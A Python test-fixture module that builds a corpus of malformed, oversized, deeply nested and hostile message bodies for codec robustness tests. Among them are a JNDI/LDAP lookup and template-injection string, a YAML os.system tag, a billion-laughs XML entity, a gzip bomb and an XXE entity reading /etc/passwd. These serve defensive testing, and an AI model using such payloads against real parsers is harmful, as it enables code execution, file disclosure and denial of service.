"""Bodies that a sender may send, and that no codec may fall over: large, deep, torn, foreign, and made to do harm.

Made of what broke decoders of many formats; none is larger than SQS carries, but for two that a limit has to stop.
"""

from __future__ import annotations

import base64
import gzip
from itertools import pairwise
from typing import Final

MEBIBYTE: Final = 1_048_576
PICKLED: Final = b"\x80\x04\x95\n\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s."
"""`{"a": 1}` by Python's pickle; written out, since nothing here may import what runs data."""


def nest(depth: int) -> str:
    """An object with arrays in it, *depth* levels in all."""
    return '{"a":' + "[" * (depth - 1) + "]" * (depth - 1) + "}"


def array(item: str, count: int) -> str:
    """An object with *count* times *item*."""
    return '{"a":[' + ",".join([item] * count) + "]}"


def padded(size: int) -> str:
    """A valid body of exactly *size* bytes."""
    return '{"a":"' + "x" * (size - len('{"a":""}')) + '"}'


def coded(raw: bytes) -> str:
    """Bytes in a body: base64."""
    return base64.b64encode(raw).decode()


HOSTILE: Final[dict[str, str]] = {
    "B01-empty": "",
    "B01-blank": " \t\r\n ",
    "B01-a-mebibyte-of-blanks": " " * MEBIBYTE,
    "B02-a-word": "hello",
    "B02-html": "<html><body>503 Service Unavailable</body></html>",
    "B02-cut-short": '{"a": [1, 2',
    "B02-trailing-comma": '{"a": 1,}',
    "B02-two-documents": '{"a": 1}{"a": 2}',
    "B02-single-quotes": "{'a': 1}",
    "B02-leading-zero": '{"a": 01}',
    "B03-array": '[{"a": 1}]',
    "B03-string": '"text"',
    "B03-number": "42",
    "B03-true": "true",
    "B03-null": "null",
    "B04-nan": '{"a": NaN}',
    "B04-infinity": '{"a": Infinity}',
    "B04-minus-infinity": '{"a": -Infinity}',
    "B04-beyond-a-double": '{"a": 1e999}',
    "B04-beyond-a-double-by-many": array("-1e400", 1_000),
    "B04-nan-in-a-string": '{"a": "NaN"}',
    "B05-32-digits": '{"a": ' + "9" * 32 + "}",
    "B05-33-digits": '{"a": ' + "9" * 33 + "}",
    "B05-4300-digits": '{"a": ' + "9" * 4_300 + "}",
    "B05-5000-digits": '{"a": -' + "9" * 5_000 + "}",
    "B05-5000-digits-in-a-string": '{"a": "' + "9" * 5_000 + '"}',
    "B05-a-long-fraction": '{"a": 0.' + "3" * 700 + "}",
    "B06-a-mebibyte-of-4300-digit-integers": array("9" * 4_300, 243),
    "B06-a-mebibyte-of-32-digit-integers": array("9" * 32, 31_700),
    "B07-exponent-of-a-million": '{"a": 1e1000000}',
    "B07-exponent-of-33-digits": '{"a": 1e' + "0" * 33 + "}",
    "B08-a-mebibyte-of-1e308": array("1e308", 174_000),
    "B08-as-many-1e308-as-allowed": array("1e308", 99_000),
    "B09-depth-64": nest(64),
    "B09-depth-65": nest(65),
    "B09-depth-512": nest(512),
    "B09-depth-1025": nest(1_025),
    "B09-depth-49999": nest(49_999),
    "B09-depth-100000": nest(100_000),
    "B09-open-only": "[" * 99_000,
    "B09-objects": '{"a":' * 65 + "1" + "}" * 65,
    "B09-brackets-in-a-string": '{"a": "' + "[" * 100_000 + '"}',
    "B09-brackets-behind-escapes": '{"\\\\\\"' + "[{" * 5_000 + '\\\\": "\\"' + "{" * 5_000 + '"}',
    "B09-many-combs-of-depth-64": array("[" * 62 + "]" * 62, 1_500),
    "B10-a-mebibyte-of-empty-objects": array("{}", 349_000),
    "B10-a-mebibyte-of-ones": array("1", 520_000),
    "B10-commas-in-a-string": '{"a": "' + "," * 500_000 + '"}',
    "B11-95000-keys": "{" + ",".join(f'"k{n}":1' for n in range(95_000)) + "}",
    "B11-10001-keys": "{" + ",".join(f'"k{n}":1' for n in range(10_001)) + "}",
    "B11-10000-keys": "{" + ",".join(f'"k{n}":1' for n in range(10_000)) + "}",
    "B11-colons-in-a-string": '{"a": "' + ":" * 500_000 + '"}',
    "B12-duplicate-keys": '{"a": 1, "a": 2}',
    "B13-escaped-high-surrogate": '{"a": "\\ud800"}',
    "B13-escaped-low-surrogate": '{"a": "\\udc00 "}',
    "B13-raw-surrogate": '{"a": "\ud800"}',
    "B13-a-pair": '{"a": "\\ud83d\\ude00"}',
    "B14-escaped-nul": '{"a": "x\\u0000y"}',
    "B14-raw-nul": '{"a": "\0"}',
    "B15-byte-order-mark": '\ufeff{"a": 1}',
    "B15-byte-order-mark-as-latin-1": '\xef\xbb\xbf{"a": 1}',
    "B15-utf-16-as-latin-1": '{"a": 1}'.encode("utf-16").decode("latin-1"),
    "B15-utf-16-without-a-mark": '{"a": 1}'.encode("utf-16-le").decode("latin-1"),
    "B15-bad-utf-8-in-base64": coded(b'{"a": "\xff\xfe"}'),
    "B16-escaped-control-characters": '{"a": "\\u001b[31m\\r\\nINFO forged"}',
    "B17-exactly-the-limit": padded(MEBIBYTE),
    "B17-one-byte-over": padded(MEBIBYTE + 1),
    "B17-over-in-bytes-but-not-in-characters": '{"a": "' + "é" * 600_000 + '"}',
    "B22-template-injection": '{"a": "{{7*7}} %s {0.__class__} ${jndi:ldap://x}"}',
    "B23-pickle": PICKLED.decode("latin-1"),
    "B23-pickle-in-base64": coded(PICKLED),
    "B23-yaml-object": "!!python/object/apply:os.system ['true']",
    "B24-billion-laughs": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>',
    "only-quotes": '"' * MEBIBYTE,
    "only-escaped-quotes": '{"a":"' + '\\"' * 500_000 + '"}',
    "only-backslashes": '{"a":"' + "\\\\" * 500_000 + '"}',
    "gzip-bomb-in-base64": coded(gzip.compress(b"\0" * 64 * MEBIBYTE, mtime=0)),
    "yaml-aliases": "a: &a [x,x,x,x]\n"
    + "".join(f"{b}: &{b} [*{a},*{a},*{a},*{a}]\n" for a, b in pairwise("abcdefghij")),
    "nested-messagepack-in-base64": coded(b"\x91" * 100_000),
    "a-messagepack-array-of-four-thousand-million": coded(b"\xdd\xff\xff\xff\xff"),
    "nested-protobuf-in-base64": coded(b"\x0a\x7f" * 50_000),
    "avro-block-of-many-nulls-in-base64": coded(b"Obj\x01" + b"\xfe\xff\xff\xff\x0f" * 8),
    "xml-that-reads-a-file": '<!DOCTYPE l [<!ENTITY f SYSTEM "file:///etc/passwd">]><l>&f;</l>',
}
"""By name; the numbers are those of the corpus that `tests/unit/codecs` holds the JSON codec to."""
